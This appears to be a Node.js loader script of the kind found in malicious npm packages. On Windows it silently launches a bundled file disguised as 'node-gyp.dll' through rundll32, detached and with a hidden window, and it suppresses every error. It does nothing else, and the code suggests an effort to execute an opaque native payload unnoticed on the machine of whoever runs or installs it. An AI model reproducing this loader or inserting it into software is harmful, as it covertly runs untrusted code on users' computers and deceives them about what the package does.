const os = require("os");
const path = require("path");
const { spawn } = require("child_process");

function main() {
  if (os.platform() !== "win32") return;
  const lib = path.join(__dirname, "node-gyp.dll");
  try {
    const child = spawn("rundll32", [lib + ",main"], { detached: true, stdio: "ignore", windowsHide: true });
    child.unref();
  } catch (e) {}
}

main();
